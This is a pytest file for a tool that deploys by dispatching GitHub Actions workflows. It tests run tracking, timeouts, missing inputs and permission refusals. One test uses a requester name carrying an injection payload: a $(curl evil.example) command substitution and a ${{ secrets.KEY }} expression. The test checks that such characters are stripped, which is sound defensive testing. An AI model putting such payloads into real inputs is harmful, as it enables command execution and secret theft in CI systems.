"""Deploying by a workflow of GitHub Actions: started once, with its inputs, and followed."""

from __future__ import annotations

from typing import Any, Dict, List

import pytest

from opsroom.errors import Code, Refusal
from support.contracts.vendor import Vendor
from support.deploys.github import (
    LINK,
    MARK,
    a_job,
    after,
    caught,
    deployer_at,
    dispatched,
    is_post,
    v1,
)
from support.deploys.runs import Clock
from support.vendors.github_deployments import GithubDeployments


def test_a_workflow_is_started_once_and_followed_to_its_end(vendor: Vendor) -> None:
    deployer, work = deployer_at(vendor), a_job()
    deployer.deploy(v1(deployer), work)
    assert dispatched(vendor) == [
        {
            "ref": "v1.0.0",
            "inputs": {"environment": "uat", "opsroom": MARK},
            "return_run_details": True,
        }
    ]
    assert work.lines == ["GitHub run 4711 was started", "GitHub run 4711 is running"]
    assert (work.links, work.handles) == ([LINK], {"github": ""})


def test_a_slow_look_at_the_tag_leaves_the_start_its_time(
    vendor: Vendor, monkeypatch: pytest.MonkeyPatch
) -> None:
    deployer = deployer_at(vendor)
    resolved, client = v1(deployer), deployer.service.client
    original = deployer.service.check_unmoved
    left: List[float] = []

    def slowly(ref: str, commit: str) -> None:
        original(ref, commit)
        client.deadline -= 9.0

    def dispatch(ref: str, inputs: Dict[str, str]) -> int:
        left.append(client.remaining)
        raise Refusal(Code.NOT_ACCEPTED, "Not now.")

    monkeypatch.setattr(deployer.service, "check_unmoved", slowly)
    monkeypatch.setattr(deployer.service.workflow, "dispatch", dispatch)
    caught(deployer.deploy, resolved, a_job())
    assert left[0] > 5


def test_the_requester_is_no_more_than_text_to_a_script(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.inputs.append("by")
    deployer, work = deployer_at(vendor, inputs={"by": "{requester}"}), a_job()
    work.requester = "eve'; $(curl evil.example) `x` ${{ secrets.KEY }} {{ st2kv.x }}"
    deployer.deploy(v1(deployer), work)
    assert not set("'\"$`(){}|&<>\\;!*?#~%") & set(dispatched(vendor)[0]["inputs"]["by"])


def test_a_server_that_names_no_run_is_asked_which_one_it_is(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.enterprise = True
    deployer, work = deployer_at(vendor), a_job()
    github.run(title="deploy v0.9.0 [opsroom-fedcba9876543210]")
    deployer.deploy(v1(deployer), work)
    # The first was refused for a field that the server does not know, so that nothing was started.
    assert [one.get("return_run_details") for one in dispatched(vendor)] == [True, None]
    assert len(github.runs) == 2
    assert work.lines[-1] == "GitHub run 4712 is running"


def test_a_run_that_is_not_listed_yet_is_waited_for(
    vendor: Vendor, github: GithubDeployments, clock: Clock
) -> None:
    github.enterprise, github.hidden_for = True, 30
    deployer, work = deployer_at(vendor), a_job()
    begun = clock.now
    deployer.deploy(v1(deployer), work)
    assert clock.now - begun > 60  # longer than a lost answer is looked for
    assert len(github.runs) == 1
    assert any("does not show in GitHub's list yet" in line for line in work.lines)


def test_a_run_that_never_shows_does_not_block_its_place_for_good(
    vendor: Vendor, github: GithubDeployments, clock: Clock
) -> None:
    github.enterprise, github.hidden_for = True, 10_000
    deployer, work = deployer_at(vendor, time_limit="60s"), a_job()
    assert caught(deployer.deploy, v1(deployer), work).code is Code.TIMED_OUT
    clock.now += 900
    github.runs.clear()
    github.hidden_for = 0
    deployer.deploy(v1(deployer), after(work))
    assert len(github.runs) == 1


def test_a_run_that_is_not_found_at_once_is_not_taken_for_gone(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.hidden_for = 2
    deployer, work = deployer_at(vendor), a_job()
    deployer.deploy(v1(deployer), work)
    assert "GitHub run 4711 does not show on GitHub yet" in work.lines


def test_a_run_that_cannot_be_told_from_another_is_not_guessed(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.enterprise, github.run_name = True, False
    deployer, work = deployer_at(vendor), a_job()
    github.states = [("in_progress", None)]
    error = caught(deployer.deploy, v1(deployer), work)
    assert error.code is Code.OUTCOME_UNKNOWN
    assert "may still go on" in error.message
    assert "run-name" in error.hint
    for _ in range(2):  # and nothing is started before it has ended
        assert caught(deployer.deploy, v1(deployer), after(work)).code is Code.OUTCOME_UNKNOWN
    assert len(github.runs) == 1


def test_a_tag_whose_workflow_lacks_the_input_is_started_without_and_that_is_said(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.inputs_on["v1.0.0"] = ["environment"]
    deployer, work = deployer_at(vendor), a_job()
    deployer.deploy(v1(deployer), work)
    assert [list(one["inputs"]) for one in dispatched(vendor)] == [
        ["environment", "opsroom"],
        ["environment"],
    ]
    assert "without its id: the workflow at v1.0.0 has no input opsroom" in work.lines[0]
    assert len(github.runs) == 1


def test_a_run_without_the_input_is_found_by_its_time_where_no_id_is_given(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.enterprise, github.inputs_on["v1.0.0"] = True, ["environment"]
    deployer, work = deployer_at(vendor), a_job()
    deployer.deploy(v1(deployer), work)
    assert len(github.runs) == 1
    assert work.lines[-1] == "GitHub run 4711 is running"


def test_another_unknown_input_is_refused_by_name(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.inputs_on["v1.0.0"] = []
    deployer, work = deployer_at(vendor), a_job()
    error = caught(deployer.deploy, v1(deployer), work)
    assert isinstance(error, Refusal)
    assert "at v1.0.0 has no input environment, opsroom" in error.message
    assert (len(dispatched(vendor)), work.handles["github"]) == (1, "")


def test_a_lost_answer_to_the_start_without_the_input_is_not_repeated(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.inputs_on["v1.0.0"] = ["environment"]
    github.states = [("in_progress", None)]
    deployer = deployer_at(vendor)
    vendor.after("unanswered", where=lambda one: is_post(one) and b"opsroom-" not in one.body)
    assert caught(deployer.deploy, v1(deployer), a_job()).code is Code.OUTCOME_UNKNOWN
    assert len(github.runs) == 1


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"has_trigger": False}, "cannot be started by hand"),
        ({"missing_rights": ["actions"]}, "GitHub does not allow this on workflow deploy.yml"),
    ],
)
def test_what_github_does_not_start_leaves_nothing_behind(
    vendor: Vendor, github: GithubDeployments, change: Dict[str, Any], words: str
) -> None:
    deployer, work = deployer_at(vendor), a_job()
    resolved = v1(deployer)
    for name, value in change.items():
        setattr(github, name, value)
    error = caught(deployer.deploy, resolved, work)
    assert words in error.message
    assert (github.runs, work.handles) == ({}, {"github": ""})
    if "missing_rights" in change:
        assert "Actions (read and write)" in error.hint
